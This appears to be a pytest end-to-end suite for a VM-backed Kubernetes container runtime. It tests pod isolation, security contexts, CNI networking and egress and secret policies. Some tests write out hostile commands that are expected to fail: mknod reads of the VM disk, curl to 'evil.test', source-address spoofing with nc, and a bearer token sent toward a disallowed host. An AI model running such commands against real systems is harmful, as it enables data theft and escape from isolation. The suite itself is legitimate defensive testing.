"""Kubernetes' view: containerd's CRI plugin (Debian's containerd 1.6, private socket
and root) with the runtime handler `a3sbox`, driven by a small gRPC client the way a
kubelet drives it: RunPodSandbox, CreateContainer, StartContainer, ExecSync,
ContainerStatus, ContainerStats, StopPodSandbox, RemovePodSandbox. Real VMs.

Faked: nothing of the runtime; the kubelet and API server are absent (none can be had
here), so the test is their client. Pods use the node's network, or a pod network made by
Debian's CNI plugins (bridge, host-local, loopback, portmap) on a subnet of this host's own."""
from __future__ import annotations

import importlib.util
import json
import socket
import subprocess
import tarfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import grpc
import pytest

from tests.e2e.conftest import ROOT, BoxCli
from tests.e2e.containerd_host import containerd, import_image
from tests.k8s.cri.client import CriClient, pb
from tests.network.conftest import Internet, internet  # noqa: F401 - the fixture
from tests.network.tools_image import build_tools_image

pytestmark = pytest.mark.vm
HELLO = "docker.io/library/hello:1"  # the sandbox's image too (its agent loop never ends, as pause)
MARKED = "docker.io/library/marked:1"  # hello + a file only this image has
TOOLS = "docker.io/library/tools:1"  # hello + the host's curl
SECRET = "sk-live-cri-test-7d1f0a"


def _marked_image(out: Path) -> Path:
    spec = importlib.util.spec_from_file_location("make_image", ROOT / "examples/hello/make_image.py")
    assert spec is not None and spec.loader is not None
    make_image: Any = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(make_image)

    def marker(tar: tarfile.TarFile) -> None:
        make_image._entry(tar, "etc/marked", data=b"only in the marked image\n", mode=0o644)
    make_image.build(out, extra_layers=(marker,))
    return out


# The pod network of the CNI tests: Debian's containernetworking-plugins on a bridge and
# a subnet of this machine's own (no other network here uses them)
CNI_BIN = Path("/usr/lib/cni")
BRIDGE, SUBNET, BRIDGE_IP = "a3stest0", "10.213.77.0/24", "10.213.77.1"
CONFLIST = {"cniVersion": "1.0.0", "name": "a3s-test", "plugins": [
    {"type": "bridge", "bridge": BRIDGE, "isGateway": True, "ipMasq": False,
     "ipam": {"type": "host-local", "ranges": [[{"subnet": SUBNET}]], "routes": [{"dst": "0.0.0.0/0"}]}},
    {"type": "portmap", "capabilities": {"portMappings": True}}]}


@pytest.fixture(scope="module")
def cri(box: BoxCli, hello_image: Path, internet: Internet,  # noqa: F811
        tmp_path_factory: pytest.TempPathFactory) -> Iterator[CriClient]:
    d = tmp_path_factory.mktemp("cri")
    (d / "cni" / "conf").mkdir(parents=True)
    (d / "cni" / "conf" / "10-a3s-test.conflist").write_text(json.dumps(CONFLIST))
    config = (f'[plugins."io.containerd.grpc.v1.cri"]\n  sandbox_image = "{HELLO}"\n'
              f'  [plugins."io.containerd.grpc.v1.cri".cni]\n    bin_dir = "{CNI_BIN}"\n'
              f'    conf_dir = "{d}/cni/conf"\n'
              f'  [plugins."io.containerd.grpc.v1.cri".containerd.runtimes.runc]\n'
              f'    runtime_type = "io.containerd.runc.v2"\n'
              f'  [plugins."io.containerd.grpc.v1.cri".containerd.runtimes.a3sbox]\n'
              f'    runtime_type = "io.containerd.a3sbox.v2"\n'
              f'    pod_annotations = ["a3s.dev/*"]\n')
    # the egress proxy the shims start trusts "the internet" (as the host's store would)
    with containerd(d, box.home, config, {"SSL_CERT_FILE": str(internet.ca)}) as sock:
        import_image(sock, hello_image, HELLO, namespace="k8s.io")
        import_image(sock, _marked_image(d / "marked"), MARKED, namespace="k8s.io")
        import_image(sock, build_tools_image(d / "tools"), TOOLS, namespace="k8s.io")
        refused = [line for line in (d / "containerd.log").read_text().splitlines()
                   if "failed to load plugin io.containerd.grpc.v1.cri" in line]
        assert not refused, refused
        with CriClient(sock, timeout=240) as client:
            client.wait_ready(30)
            yield client
    subprocess.run(["ip", "link", "del", BRIDGE], capture_output=True)


def _sandbox_config(name: str, logs: Path) -> Any:
    return pb.PodSandboxConfig(
        metadata=pb.PodSandboxMetadata(name=name, uid=f"uid-{name}", namespace="default"),
        hostname=name, log_directory=str(logs),
        linux=pb.LinuxPodSandboxConfig(security_context=pb.LinuxSandboxSecurityContext(
            namespace_options=pb.NamespaceOption(network=pb.NODE))))


def _container_config(name: str, image: str, command: list[str], memory: int = 0) -> Any:
    return pb.ContainerConfig(
        metadata=pb.ContainerMetadata(name=name), image=pb.ImageSpec(image=image), command=command,
        log_path=f"{name}.log",
        linux=pb.LinuxContainerConfig(resources=pb.LinuxContainerResources(memory_limit_in_bytes=memory)))


def _qemus() -> set[int]:
    """Every QEMU on the host (the VM tests run one at a time: what this test starts)."""
    out = set()
    for p in Path("/proc").iterdir():
        try:
            if p.name.isdigit() and b"qemu-system" in (p / "cmdline").read_bytes().split(b"\0")[0]:
                out.add(int(p.name))
        except OSError:
            continue
    return out


def _argv(pid: int) -> str:
    return (Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ")).decode()


def _wait_state(cri: CriClient, cid: str, state: int, within: float = 120) -> Any:
    deadline = time.monotonic() + within
    while (st := cri.container_status(cid)).state != state and time.monotonic() < deadline:
        time.sleep(0.5)
    return st


def test_a_pod_is_one_vm_and_its_containers_run_in_it(cri: CriClient, box: BoxCli, tmp_path: Path) -> None:
    before = _qemus()
    pod = cri.run_pod_sandbox(_sandbox_config("p1", tmp_path / "logs"), handler="a3sbox")
    try:
        assert cri.pod_sandbox_status(pod).status.state == pb.SANDBOX_READY
        qemus = _qemus() - before
        assert len(qemus) == 1, qemus  # the sandbox started the pod's VM ...
        # ... a clone of its image's snapshot template, its share hot-plugged (on the node's
        # network: no NIC)
        assert " -incoming " in _argv(next(iter(qemus))), _argv(next(iter(qemus)))
        c1 = cri.create_container(pod, _container_config("c1", MARKED, ["sleep", "100000"], memory=96 << 20),
                                  _sandbox_config("p1", tmp_path / "logs"))
        cri.start_container(c1)
        assert _wait_state(cri, c1, pb.CONTAINER_RUNNING).state == pb.CONTAINER_RUNNING
        assert _qemus() - before == qemus  # still one VM: the container joined it

        code, out, err = cri.exec_sync(c1, ["uname", "-r"], timeout=60)
        guest = (box.home / "cache" / "kernels" / "current").read_text().strip()
        assert (code, out.decode().strip()) == (0, guest), err
        # its own rootfs (the marked image's, not the sandbox's) ...
        code, out, _ = cri.exec_sync(c1, ["cat", "/etc/marked"], timeout=60)
        assert (code, out) == (0, b"only in the marked image\n")
        # ... its own pid namespace (its command is pid 1 there) ...
        code, out, _ = cri.exec_sync(c1, ["cat", "/proc/1/cmdline"], timeout=60)
        assert out.split(b"\0")[:2] == [b"sleep", b"100000"]
        # ... and its cgroup in the guest, with the pod spec's memory limit
        code, out, err = cri.exec_sync(c1, ["sh", "-c", "cat /sys/fs/cgroup$(cut -d: -f3 /proc/self/cgroup)"
                                            "/memory.max"], timeout=60)
        assert (code, out.strip()) == (0, str(96 << 20).encode()), err
        code, _, err = cri.exec_sync(c1, ["sh", "-c", "echo to-stderr >&2; exit 3"], timeout=60)
        assert (code, err) == (3, b"to-stderr\n")

        stats = cri.container_stats(c1)
        assert stats.memory.working_set_bytes.value > 0 and stats.cpu.usage_core_nano_seconds.value > 0

        # a second container of the same pod: same VM, its own rootfs
        c2 = cri.create_container(pod, _container_config("c2", HELLO, ["sleep", "100000"]),
                                  _sandbox_config("p1", tmp_path / "logs"))
        cri.start_container(c2)
        _wait_state(cri, c2, pb.CONTAINER_RUNNING)
        code, _, _ = cri.exec_sync(c2, ["cat", "/etc/marked"], timeout=60)
        assert code != 0
        assert _qemus() - before == qemus

        cri.stop_container(c2, timeout=2)
        st = _wait_state(cri, c2, pb.CONTAINER_EXITED)
        assert st.state == pb.CONTAINER_EXITED and st.exit_code == 137  # SIGKILL after the grace time
        cri.remove_container(c2)
    finally:
        cri.stop_pod_sandbox(pod)
        cri.remove_pod_sandbox(pod)
    deadline = time.monotonic() + 60
    while _qemus() & qemus and time.monotonic() < deadline:
        time.sleep(0.2)
    assert not _qemus() & qemus
    assert "/a3sbox/pod" not in Path("/proc/self/mountinfo").read_text()
    with pytest.raises(grpc.RpcError):
        cri.container_status(c1)


def test_a_container_past_its_memory_limit_is_oom_killed_and_the_pod_runs_on(cri: CriClient,
                                                                            tmp_path: Path) -> None:
    pod = cri.run_pod_sandbox(_sandbox_config("p2", tmp_path / "logs"), handler="a3sbox")
    try:
        hog = cri.create_container(pod, _container_config("hog", HELLO, [
            "dd", "if=/dev/zero", "of=/dev/null", "bs=96M", "count=1"], memory=32 << 20),
            _sandbox_config("p2", tmp_path / "logs"))
        cri.start_container(hog)
        st = _wait_state(cri, hog, pb.CONTAINER_EXITED)
        assert (st.state, st.exit_code, st.reason) == (pb.CONTAINER_EXITED, 137, "OOMKilled")
        ok = cri.create_container(pod, _container_config("ok", HELLO, ["sleep", "100000"]),
                                  _sandbox_config("p2", tmp_path / "logs"))
        cri.start_container(ok)
        _wait_state(cri, ok, pb.CONTAINER_RUNNING)
        assert cri.exec_sync(ok, ["true"], timeout=60)[0] == 0
    finally:
        cri.stop_pod_sandbox(pod)
        cri.remove_pod_sandbox(pod)


def _status(cri: CriClient, cid: str) -> dict[str, str]:
    code, out, err = cri.exec_sync(cid, ["cat", "/proc/self/status"], timeout=60)
    assert code == 0, err
    return dict(line.split(":\t", 1) for line in out.decode().splitlines() if ":\t" in line)


def test_a_containers_security_context_holds_from_inside(cri: CriClient, tmp_path: Path) -> None:
    """runAsUser/Group with a supplemental group, drop ALL, readOnlyRootFilesystem,
    allowPrivilegeEscalation: false and the RuntimeDefault seccomp profile, each seen from
    inside the container, its own process and an ExecSync alike; and what a root
    container of the same pod (default capabilities, CAP_MKNOD among them) can reach:
    neither the VM's disk nor the other container's files."""
    config = _sandbox_config("p3", tmp_path / "logs")
    pod = cri.run_pod_sandbox(config, handler="a3sbox")
    try:
        locked = _container_config("locked", MARKED, ["sh", "-c", "cat /proc/self/status > /tmp/own; "
                                                                "exec sleep 100000"])
        locked.linux.security_context.CopyFrom(pb.LinuxContainerSecurityContext(
            run_as_user=pb.Int64Value(value=1000), run_as_group=pb.Int64Value(value=1000),
            supplemental_groups=[2000], capabilities=pb.Capability(drop_capabilities=["ALL"]),
            readonly_rootfs=True, no_new_privs=True,
            seccomp=pb.SecurityProfile(profile_type=pb.SecurityProfile.RuntimeDefault)))
        locked.mounts.append(pb.Mount(container_path="/tmp", host_path=str(_writable(tmp_path / "tmp"))))
        c1 = cri.create_container(pod, locked, config)
        cri.start_container(c1)
        assert _wait_state(cri, c1, pb.CONTAINER_RUNNING).state == pb.CONTAINER_RUNNING

        code, out, _ = cri.exec_sync(c1, ["id"], timeout=60)
        assert code == 0 and out.decode().split()[:2] == ["uid=1000", "gid=1000"]
        assert "2000" in out.decode().split()[2]
        for status in (_status(cri, c1), _own_status(cri, c1)):  # an exec, and the container's process
            assert (status["Uid"].split()[0], status["Gid"].split()[0]) == ("1000", "1000")
            assert status["CapEff"] == status["CapPrm"] == status["CapBnd"] == "0" * 16
            assert status["NoNewPrivs"] == "1" and status["Seccomp"] == "2"
        code, _, err = cri.exec_sync(c1, ["touch", "/written"], timeout=60)
        assert code != 0 and b"Read-only file system" in err
        # a call the RuntimeDefault profile forbids without CAP_SYS_ADMIN (the kernel alone allows it)
        code, _, err = cri.exec_sync(c1, ["busybox", "unshare", "-U", "true"], timeout=60)
        assert code != 0 and b"Operation not permitted" in err, err

        # a root container of the pod, with containerd's default capabilities
        root = _container_config("root", HELLO, ["sleep", "100000"])
        c2 = cri.create_container(pod, root, config)
        cri.start_container(c2)
        _wait_state(cri, c2, pb.CONTAINER_RUNNING)
        status = _status(cri, c2)
        assert status["Uid"].split()[0] == "0" and int(status["CapEff"], 16) & (1 << 27)  # CAP_MKNOD
        assert not int(status["CapEff"], 16) & (1 << 21)  # no CAP_SYS_ADMIN
        code, out, _ = cri.exec_sync(c2, ["ls", "/dev"], timeout=60)
        assert code == 0 and not {"vda", "vdb", "vport0p1", "mem", "kmsg"} & set(out.decode().split())
        # the VM's disk by number, made where it can be (its major from the VM's /sys)
        code, out, err = cri.exec_sync(c2, ["sh", "-c", "cat /sys/block/vda/dev"], timeout=60)
        assert code == 0, err
        major, minor = out.decode().strip().split(":")
        for where in ("/tmp/vda", "/dev/vda", "/dev/shm/vda", "/vda"):
            # made (a nodev mount) or not (/dev is read-only): not a byte of the disk either way
            code, out, err = cri.exec_sync(c2, ["sh", "-c", f"mknod {where} b {major} {minor}; "
                                                f"head -c 512 {where} | wc -c"], timeout=60)
            assert out.strip() == b"0", (where, err)
        # the other container's files: not in this one's mounts, by any path
        code, out, _ = cri.exec_sync(c2, ["sh", "-c", "cat /etc/marked; ls /run/a3s/pod; "
                                          "find / -xdev -name marked 2>/dev/null"], timeout=120)
        assert b"only in the marked image" not in out and b"marked" not in out
    finally:
        cri.stop_pod_sandbox(pod)
        cri.remove_pod_sandbox(pod)


def _writable(path: Path) -> Path:
    path.mkdir(parents=True)
    path.chmod(0o1777)
    return path


def _own_status(cri: CriClient, cid: str) -> dict[str, str]:
    """The container's own process's /proc/self/status, which it saved at its start."""
    for _ in range(60):
        code, out, _ = cri.exec_sync(cid, ["cat", "/tmp/own"], timeout=60)
        if code == 0 and out:
            return dict(line.split(":\t", 1) for line in out.decode().splitlines() if ":\t" in line)
        time.sleep(0.5)
    raise AssertionError("the container did not save its status")


def _fetch(host: str, port: int, tries: int = 60) -> bytes:
    """What a TCP server at HOST:PORT sends before it closes (retried while it restarts)."""
    for _ in range(tries):
        try:
            with socket.create_connection((host, port), timeout=10) as c:
                data = b""
                while chunk := c.recv(4096):
                    data += chunk
                if data:
                    return data
        except OSError:
            pass
        time.sleep(0.5)
    raise AssertionError(f"nothing from {host}:{port}")


@pytest.mark.skipif(not (CNI_BIN / "bridge").exists(), reason="needs containernetworking-plugins")
def test_a_pod_on_a_cni_network_is_its_vm(cri: CriClient, box: BoxCli, tmp_path: Path) -> None:
    """The VM takes the pod's CNI interface (tc redirect to its tap): the pod IP answers
    from the guest's kernel; hostPort (portmap), pod to host and pod to pod work; the DNS
    config of the CRI request reaches the containers."""
    guest = (box.home / "cache" / "kernels" / "current").read_text().strip().encode()

    def config(name: str, ports: list[Any]) -> Any:
        return pb.PodSandboxConfig(
            metadata=pb.PodSandboxMetadata(name=name, uid=f"uid-{name}", namespace="default"),
            hostname=name, log_directory=str(tmp_path / "logs"), port_mappings=ports,
            dns_config=pb.DNSConfig(servers=["10.213.77.53"], searches=["pods.test"]),
            linux=pb.LinuxPodSandboxConfig())  # the pod's own network namespace

    c1_config = config("net1", [pb.PortMapping(protocol=pb.TCP, container_port=8080, host_port=18080)])
    before = _qemus()
    pod1 = cri.run_pod_sandbox(c1_config, handler="a3sbox")
    pod2 = ""
    try:
        # a clone of the snapshot template of its image and size (made by this first pod):
        # the template has no NIC, the pod's was hot-plugged into it with its CNI address
        (vm1,) = _qemus() - before
        assert " -incoming " in _argv(vm1) and "virtio-net" not in _argv(vm1), _argv(vm1)
        ip1 = cri.pod_sandbox_status(pod1).status.network.ip
        assert ip1.startswith("10.213.77."), ip1
        server = cri.create_container(pod1, _container_config(
            "server", HELLO, ["sh", "-c", "while true; do uname -r | nc -l -p 8080; done"]), c1_config)
        cri.start_container(server)
        _wait_state(cri, server, pb.CONTAINER_RUNNING)
        code, out, err = cri.exec_sync(server, ["ip", "-4", "addr", "show", "eth0"], timeout=60)
        assert code == 0 and f"inet {ip1}/24".encode() in out, (out, err)
        code, out, _ = cri.exec_sync(server, ["cat", "/etc/resolv.conf"], timeout=60)
        assert b"nameserver 10.213.77.53" in out and b"search pods.test" in out

        assert _fetch(ip1, 8080).strip() == guest  # the pod's IP is the VM
        assert _fetch(BRIDGE_IP, 18080).strip() == guest  # hostPort, through portmap's rules

        with socket.create_server((BRIDGE_IP, 0)) as host_server:  # pod -> host
            host_server.settimeout(60)
            got: list[tuple[bytes, str]] = []

            def serve() -> None:
                conn, peer = host_server.accept()
                with conn:  # closed once read: the pod's nc then ends
                    conn.settimeout(30)
                    got.append((conn.recv(100), peer[0]))
            reader = threading.Thread(target=serve)
            reader.start()
            code, _, err = cri.exec_sync(server, ["sh", "-c", f"echo from-pod | nc {BRIDGE_IP} "
                                                  f"{host_server.getsockname()[1]}"], timeout=60)
            reader.join(60)
            assert got == [(b"from-pod\n", ip1)], err

        c2_config = config("net2", [])
        pod2 = cri.run_pod_sandbox(c2_config, handler="a3sbox")
        (vm2,) = _qemus() - before - {vm1}
        assert " -incoming " in _argv(vm2)  # another clone of the same template
        client = cri.create_container(pod2, _container_config("client", HELLO, ["sleep", "100000"]), c2_config)
        cri.start_container(client)
        _wait_state(cri, client, pb.CONTAINER_RUNNING)
        macs = [cri.exec_sync(c, ["cat", "/sys/class/net/eth0/address"], timeout=60)[1] for c in (server, client)]
        assert macs[0] != macs[1], macs  # each its own pod interface's, not the template's
        for _ in range(20):  # pod -> pod (the server restarts its nc between connections)
            code, out, _ = cri.exec_sync(client, ["sh", "-c", f"nc {ip1} 8080 </dev/null"], timeout=60)
            if out.strip():
                break
            time.sleep(0.5)
        assert out.strip() == guest
    finally:
        for pod in (pod1, pod2):
            if pod:
                cri.stop_pod_sandbox(pod)
                cri.remove_pod_sandbox(pod)


@pytest.mark.skipif(not (CNI_BIN / "bridge").exists(), reason="needs containernetworking-plugins")
def test_an_annotated_pod_reaches_its_allowed_names_only_and_never_holds_its_secret(
        cri: CriClient, box: BoxCli, internet: Internet, tmp_path: Path) -> None:  # noqa: F811
    """a3s.dev/network and a3s.dev/secrets: the pod's VM is routed through its namespace,
    where every flow it starts meets the host's egress proxy under the annotated policy;
    a container's secret variable is a placeholder inside while the upstream gets the
    value; inbound traffic to the pod IP still reaches the guest."""
    h, s = internet.http_port, internet.https_port
    annotations = {
        "a3s.dev/network": f"mode: allowlist\negress: [api.test:{h}, api.test:{s}, other.test:{s}]\n"
                           "hosts: {api.test: 127.0.0.1, other.test: 127.0.0.1}\n",
        "a3s.dev/secrets": f"TOKEN: [api.test:{s}]\n",
    }
    sandbox = pb.PodSandboxConfig(
        metadata=pb.PodSandboxMetadata(name="fenced", uid="uid-fenced", namespace="default"),
        hostname="fenced", log_directory=str(tmp_path / "logs"), annotations=annotations,
        linux=pb.LinuxPodSandboxConfig())
    pod = cri.run_pod_sandbox(sandbox, handler="a3sbox")
    try:
        ip = cri.pod_sandbox_status(pod).status.network.ip
        config = _container_config("agent", TOOLS, ["sh", "-c", "while true; do uname -r | nc -l -p 8080; done"])
        config.envs.append(pb.KeyValue(key="TOKEN", value=SECRET))
        # the hostile side: root in the VM's network namespace, free to change its addresses
        config.linux.security_context.capabilities.add_capabilities.extend(["NET_ADMIN", "NET_RAW"])
        agent = cri.create_container(pod, config, sandbox)
        cri.start_container(agent)
        _wait_state(cri, agent, pb.CONTAINER_RUNNING)

        def sh(script: str) -> tuple[int, str]:
            code, out, err = cri.exec_sync(agent, ["sh", "-c", script], timeout=90)
            return code, (out + err).decode(errors="replace")

        # the allowed name answers, through the proxy (its log says so)
        code, out = sh(f"/usr/bin/curl -sS -m 20 http://api.test:{h}/cri-allowed")
        assert code == 0 and json.loads(out)["path"] == "/cri-allowed", out
        # other names, raw addresses and the node are not reached; nothing got through
        before = len(internet.requests)
        for target in (f"http://evil.test:{h}/x", f"http://127.0.0.1:{h}/x", f"http://{BRIDGE_IP}:{h}/x",
                       f"http://other.test:{h}/x"):
            code, out = sh(f"/usr/bin/curl -fsS -m 10 {target}; echo rc=$?")
            assert "rc=0" not in out, (target, out)
        # nothing reaches the node's own listeners directly: not TCP (the proxy refuses
        # it), not UDP other than DNS, not ICMP, not from a forged source address
        with socket.create_server((BRIDGE_IP, 0)) as tcp, \
                socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp, \
                socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003)) as wire:
            wire.bind((BRIDGE, 0))  # every frame on the pod network's bridge, from now on
            wire.setblocking(False)
            udp.bind((BRIDGE_IP, 0))
            tcp.settimeout(0.5)
            udp.settimeout(0.5)
            tport, uport = tcp.getsockname()[1], udp.getsockname()[1]
            code, out = sh(f"/usr/bin/curl -fsS -m 5 http://{BRIDGE_IP}:{tport}/; echo rc=$?; "
                           f"echo leak | nc -u -w 1 {BRIDGE_IP} {uport}; "
                           f"ping -c 1 -W 2 {BRIDGE_IP}; echo ping=$?; "
                           f"ip addr add 10.213.77.250/24 dev eth0 && "
                           f"/usr/bin/curl -sS -m 5 --interface 10.213.77.250 http://{BRIDGE_IP}:{tport}/; echo rc=$?; "
                           f"ip addr add 10.213.99.9/32 dev eth0 && "
                           f"echo leak | nc -u -w 1 -s 10.213.99.9 {BRIDGE_IP} {uport}; echo done")
            assert "rc=0" not in out and "ping=0" not in out and "done" in out, out
            with pytest.raises(TimeoutError):
                tcp.accept()
            with pytest.raises(TimeoutError):
                udp.recvfrom(100)
            # nor did the namespace answer the forged address for the VM (a SYN-ACK of the
            # proxy's, or the ARP asking where to send it: the forged packets were dropped)
            forged = socket.inet_aton("10.213.77.250")
            frames = []
            while True:
                try:
                    frames.append(wire.recv(2048))
                except BlockingIOError:
                    break
            toward = [f for f in frames if (f[12:14] == b"\x08\x06" and f[38:42] == forged)
                      or (f[12:14] == b"\x08\x00" and f[30:34] == forged)]
            assert frames and not toward, toward
        assert len(internet.requests) == before

        # the secret: a placeholder in the container and its execs, the value upstream
        code, out = sh("echo $TOKEN; cat /proc/1/environ 2>/dev/null | tr '\\0' '\\n' | grep -c " + SECRET)
        placeholder = out.split()[0]
        assert placeholder.startswith("a3s-secret-token-") and SECRET not in out, out
        code, out = sh(f'/usr/bin/curl -sS -m 20 -H "Authorization: Bearer $TOKEN" https://api.test:{s}/cri-secret')
        assert code == 0, out
        assert internet.last("/cri-secret")["headers"]["authorization"] == f"Bearer {SECRET}"
        assert SECRET not in out and "Bearer a3s-secret-token-" in out  # echoed back: scrubbed
        code, out = sh(f'/usr/bin/curl -sS -m 20 -H "Authorization: Bearer $TOKEN" https://other.test:{s}/cri-leak; '
                       "echo rc=$?")
        assert SECRET not in json.dumps([r for r in internet.requests if r["path"] == "/cri-leak"])

        # inbound: the pod's IP still answers from the guest's kernel
        guest = (box.home / "cache" / "kernels" / "current").read_text().strip().encode()
        assert _fetch(ip, 8080).strip() == guest
    finally:
        cri.stop_pod_sandbox(pod)
        cri.remove_pod_sandbox(pod)


def test_a_pod_with_an_annotation_it_cannot_honour_does_not_start(cri: CriClient, tmp_path: Path) -> None:
    sandbox = pb.PodSandboxConfig(
        metadata=pb.PodSandboxMetadata(name="bad", uid="uid-bad", namespace="default"),
        hostname="bad", log_directory=str(tmp_path / "logs"),
        annotations={"a3s.dev/network": "mode: allowlist\negress: [api.test]\n",
                     "a3s.dev/secrets": "TOKEN: [elsewhere.test]\n"},
        linux=pb.LinuxPodSandboxConfig())
    before = _qemus()
    with pytest.raises(grpc.RpcError) as e:
        cri.run_pod_sandbox(sandbox, handler="a3sbox")
    assert "a3s.dev/secrets: TOKEN: elsewhere.test is not allowed by a3s.dev/network" in str(e.value.details())
    assert _qemus() <= before


def test_a_pod_annotated_to_boot_cold_boots_and_a_bad_value_starts_nothing(cri: CriClient, tmp_path: Path) -> None:
    def sandbox(name: str, boot: str) -> Any:
        return pb.PodSandboxConfig(metadata=pb.PodSandboxMetadata(name=name, uid=f"uid-{name}", namespace="default"),
                                   hostname=name, log_directory=str(tmp_path / "logs"),
                                   annotations={"a3s.dev/boot": boot})
    before = _qemus()
    with pytest.raises(grpc.RpcError) as e:
        cri.run_pod_sandbox(sandbox("warm", "warm"), handler="a3sbox")
    assert "a3s.dev/boot: 'warm' is not one of snapshot, cold" in str(e.value.details())
    assert _qemus() <= before
    pod = cri.run_pod_sandbox(sandbox("coldpod", "cold"), handler="a3sbox")
    try:
        (vm,) = _qemus() - before
        assert " -incoming " not in _argv(vm) and " -kernel " in _argv(vm)  # booted, as asked
        c = cri.create_container(pod, _container_config("c", HELLO, ["sleep", "100000"]), sandbox("coldpod", "cold"))
        cri.start_container(c)
        _wait_state(cri, c, pb.CONTAINER_RUNNING)
        assert cri.exec_sync(c, ["true"], timeout=60)[0] == 0
    finally:
        cri.stop_pod_sandbox(pod)
        cri.remove_pod_sandbox(pod)
